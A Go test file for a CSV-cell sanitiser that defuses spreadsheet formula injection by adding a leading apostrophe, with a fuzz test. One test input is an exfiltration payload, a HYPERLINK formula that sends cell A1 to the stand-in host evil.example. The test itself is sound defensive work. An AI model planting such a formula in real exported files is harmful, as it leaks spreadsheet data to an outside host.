package csvcell_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/recordsbot/recordsbot/internal/csvcell"
)

func TestCleanNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+1+1":           "'+1+1",
		"-2+3":           "'-2+3",
		"@SUM(A1:A2)":    "'@SUM(A1:A2)",
		"\t=1":           "'\t=1",
		"\r=1":           "'\r=1",
		"  =1":           "'  =1",
		"FIN-2026-10/1":  "FIN-2026-10/1",
		"open":           "open",
		"":               "",
		"a=b":            "a=b",
		"alice@example":  "alice@example",
		"'=already text": "'=already text",
	} {
		assert.Equal(t, want, csvcell.Clean(in), "%q", in)
	}
}

// FuzzClean: no cleaned cell starts a formula, read back through a real
// CSV reader; a cell is only ever changed by one leading apostrophe.
func FuzzClean(f *testing.F) {
	for _, s := range []string{"=1+1", "+", "-", "@", "\t", "\r", " =x", "ok", "", "'", "\"=1\""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvcell.Clean(s)
		if got != s {
			require.Equal(t, "'"+s, got, "only an apostrophe is added")
		}
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		require.NoError(t, w.Write(csvcell.Row([]string{s, "x"})))
		w.Flush()
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Skip("encoding/csv cannot round-trip this text (a lone CR); the rule is about what a spreadsheet runs")
		}
		cell := strings.TrimLeft(rows[0][0], " ")
		if cell != "" {
			assert.NotContains(t, "=+-@\t\r", cell[:1], "%q starts a formula", rows[0][0])
		}
	})
}
